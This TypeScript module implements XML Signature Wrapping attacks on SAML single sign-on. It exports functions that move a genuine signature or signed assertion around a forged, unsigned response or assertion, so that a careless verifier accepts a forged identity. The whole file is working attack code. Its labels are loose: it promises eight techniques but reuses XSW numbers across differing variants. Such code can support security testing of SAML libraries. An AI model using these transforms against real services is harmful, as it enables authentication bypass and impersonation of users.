// The eight known ways to wrap a signed part of a SAML response (Somorovsky et al., "On Breaking SAML", 2012): the
// signed part stays in the message unchanged, and a forged part is placed where a careless parser looks.

const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;
const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/;

function cut(xml: string, pattern: RegExp): { part: string; rest: string } {
  const [part] = pattern.exec(xml) ?? [];
  if (part === undefined) throw new Error("The message has no such part.");
  return { part, rest: xml.replace(pattern, () => "") };
}

const insideRoot = (xml: string, part: string): string =>
  xml.replace("</samlp:Response>", () => `${part}</samlp:Response>`);
const insideSignature = (signature: string, part: string): string =>
  signature.replace("</ds:Signature>", () => `${part}</ds:Signature>`);
const afterIssuer = (xml: string, part: string): string =>
  xml.replace("</saml:Issuer>", () => `</saml:Issuer>${part}`);
const asExtension = (xml: string, part: string): string =>
  xml.replace("<samlp:Status>", () => `<samlp:Extensions>${part}</samlp:Extensions><samlp:Status>`);
const replaceAssertion = (xml: string, part: string): string => xml.replace(ASSERTION, () => part);

/** Wraps `signed`, whose response is signed, into a message around the `forged` response, which is not. */
export const RESPONSE_WRAPPINGS: Readonly<Record<string, (signed: string, forged: string) => string>> = {
  "XSW1, the signed response inside the forged one's signature": (signed, forged) => {
    const { part: signature, rest } = cut(signed, SIGNATURE);
    return afterIssuer(forged, insideSignature(signature, rest));
  },
  "XSW2, the signed response before its detached signature": (signed, forged) => {
    const { part: signature, rest } = cut(signed, SIGNATURE);
    return afterIssuer(forged, rest + signature);
  },
  "XSW1, the signed response as an object of the signature": (signed, forged) => {
    const { part: signature, rest } = cut(signed, SIGNATURE);
    return afterIssuer(forged, insideSignature(signature, `<ds:Object>${rest}</ds:Object>`));
  },
  "XSW2, the whole signed response at the end": (signed, forged) => insideRoot(forged, signed),
  "XSW2, the whole signed response as an extension": (signed, forged) => asExtension(forged, signed),
};

/** Wraps the signed assertion of `signed` into a message with the `forged` assertion, which is not signed. */
export const ASSERTION_WRAPPINGS: Readonly<Record<string, (signed: string, forged: string) => string>> = {
  "XSW3, the forged assertion before the signed one": (signed, forged) =>
    replaceAssertion(signed, forged + cut(signed, ASSERTION).part),
  "XSW3, the forged assertion behind the signed one": (signed, forged) =>
    replaceAssertion(signed, cut(signed, ASSERTION).part + forged),
  "XSW4, the signed assertion inside the forged one": (signed, forged) => {
    const { part } = cut(signed, ASSERTION);
    return replaceAssertion(
      signed,
      forged.replace("</saml:Assertion>", () => `${part}</saml:Assertion>`),
    );
  },
  "XSW5, the signature in the forged assertion and the signed one at the end": (signed, forged) => {
    const { part: signature, rest } = cut(cut(signed, ASSERTION).part, SIGNATURE);
    return replaceAssertion(signed, afterIssuer(forged, signature) + rest);
  },
  "XSW6, the signed assertion inside the signature of the forged one": (signed, forged) => {
    const { part: signature, rest } = cut(cut(signed, ASSERTION).part, SIGNATURE);
    return replaceAssertion(signed, afterIssuer(forged, insideSignature(signature, rest)));
  },
  "XSW7, the forged assertion as an extension": (signed, forged) => asExtension(signed, forged),
  "XSW7, the signed assertion as an extension": (signed, forged) =>
    asExtension(replaceAssertion(signed, forged), cut(signed, ASSERTION).part),
  "XSW8, the signed assertion as an object of the signature": (signed, forged) => {
    const { part: signature, rest } = cut(cut(signed, ASSERTION).part, SIGNATURE);
    const wrapped = insideSignature(signature, `<ds:Object>${rest}</ds:Object>`);
    return replaceAssertion(signed, afterIssuer(forged, wrapped));
  },
};
